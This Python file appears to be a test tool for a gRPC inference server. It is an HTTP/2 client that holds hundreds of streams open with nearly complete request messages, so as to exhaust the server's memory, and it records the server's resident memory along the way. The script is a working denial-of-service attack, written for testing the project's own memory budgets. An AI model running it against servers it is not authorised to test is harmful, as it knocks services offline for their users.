"""A misbehaving HTTP/2 client, written with PyPI's sans-IO `h2` on a raw socket: it opens many
gRPC calls on one connection and sends a large part of each request message without ever
finishing it (issue #20). Streams the server answers or resets are replaced by new ones, so
the pressure lasts for the whole run. Used by test_budgets.py, and by hand to measure:

    python Tests/Server/h2attack.py HOST:PORT PID [--seconds 20] [--streams 256] [--message-mib 8]

prints the server's resident memory (VmRSS of PID) before, at its peak and after.
"""
import argparse
import select
import socket
import struct
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

PATH = "/inference.GRPCInferenceService/ModelInfer"


def rss_bytes(pid):
    """Resident memory of a process (/proc/PID/status VmRSS), in bytes."""
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    raise RuntimeError(f"no VmRSS for {pid}")


class Attack:
    """Counts what happened: streams opened, request bytes the server let through, streams
    answered (by grpc-status) or reset (by error code), and the peak RSS seen."""

    def __init__(self, host, port, streams=256, message=8 << 20, seconds=3.0, max_bytes=4 << 30, pid=None):
        self.host, self.port = host, port
        self.streams, self.message, self.seconds, self.max_bytes, self.pid = streams, message, seconds, max_bytes, pid
        self.opened = 0
        self.sent = 0
        self.statuses = {}
        self.resets = {}
        self.peak_rss = 0
        self.samples = 0

    def run(self):
        sock = socket.create_connection((self.host, self.port))
        sock.setblocking(False)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        out = bytearray(conn.data_to_send())
        headers = [(":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", f"{self.host}:{self.port}"),
                   ("content-type", "application/grpc"), ("te", "trailers")]
        prefix = b"\x00" + struct.pack(">I", self.message)
        zeros = bytes(1 << 16)
        live = {}  # stream id -> body bytes sent (prefix included)
        deadline = time.monotonic() + self.seconds
        next_sample = 0.0
        try:
            while time.monotonic() < deadline and self.sent < self.max_bytes:
                if self.pid is not None and time.monotonic() >= next_sample:
                    self.peak_rss = max(self.peak_rss, rss_bytes(self.pid))
                    self.samples += 1
                    next_sample = time.monotonic() + 0.02
                # Keep `streams` calls open, each with its message started and never finished.
                while len(live) < self.streams and conn.open_outbound_streams < conn.remote_settings.max_concurrent_streams:
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, headers)
                    live[sid] = 0
                    self.opened += 1
                # Send as much of each message as the windows allow, short of its last byte.
                if len(out) < (1 << 20):
                    for sid in list(live):
                        room = min(conn.local_flow_control_window(sid), conn.max_outbound_frame_size,
                                   len(prefix) + self.message - 1 - live[sid])
                        if room <= 0 or (live[sid] == 0 and room < len(prefix)):
                            continue  # (the 5-byte message prefix goes in one frame, never split)
                        if live[sid] == 0:
                            chunk = prefix + zeros[:max(0, room - len(prefix))]
                        else:
                            chunk = zeros[:room]
                        try:
                            conn.send_data(sid, chunk)
                        except h2.exceptions.StreamClosedError:
                            live.pop(sid)
                            continue
                        live[sid] += len(chunk)
                        self.sent += len(chunk)
                out += conn.data_to_send()
                readable, writable, _ = select.select([sock], [sock] if out else [], [], 0.01)
                if writable:
                    try:
                        n = sock.send(out)
                        del out[:n]
                    except BlockingIOError:
                        pass
                if readable:
                    data = sock.recv(1 << 16)
                    if not data:
                        break
                    for event in conn.receive_data(data):
                        if isinstance(event, h2.events.DataReceived):
                            conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                        elif isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                            status = dict(event.headers).get("grpc-status")
                            if status is not None:
                                self.statuses[status] = self.statuses.get(status, 0) + 1
                        elif isinstance(event, h2.events.StreamReset):
                            self.resets[int(event.error_code)] = self.resets.get(int(event.error_code), 0) + 1
                            live.pop(event.stream_id, None)
                        elif isinstance(event, h2.events.StreamEnded):
                            live.pop(event.stream_id, None)
                            try:  # the server answered early: stop this call, open another
                                conn.reset_stream(event.stream_id)
                            except Exception:
                                pass
                        elif isinstance(event, h2.events.ConnectionTerminated):
                            return self
                    out += conn.data_to_send()
        finally:
            sock.close()
        return self


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("address")
    p.add_argument("pid", type=int)
    p.add_argument("--seconds", type=float, default=20)
    p.add_argument("--streams", type=int, default=256)
    p.add_argument("--message-mib", type=int, default=8)
    a = p.parse_args()
    host, port = a.address.rsplit(":", 1)
    before = rss_bytes(a.pid)
    attack = Attack(host, int(port), streams=a.streams, message=a.message_mib << 20, seconds=a.seconds, pid=a.pid).run()
    time.sleep(1)
    after = rss_bytes(a.pid)
    mib = 1 << 20
    print(f"RSS before {before / mib:.0f} MiB, peak {attack.peak_rss / mib:.0f} MiB, 1 s after {after / mib:.0f} MiB; "
          f"streams opened {attack.opened}, request bytes sent {attack.sent / mib:.0f} MiB, "
          f"grpc-status {attack.statuses}, resets {attack.resets}")


if __name__ == "__main__":
    main()
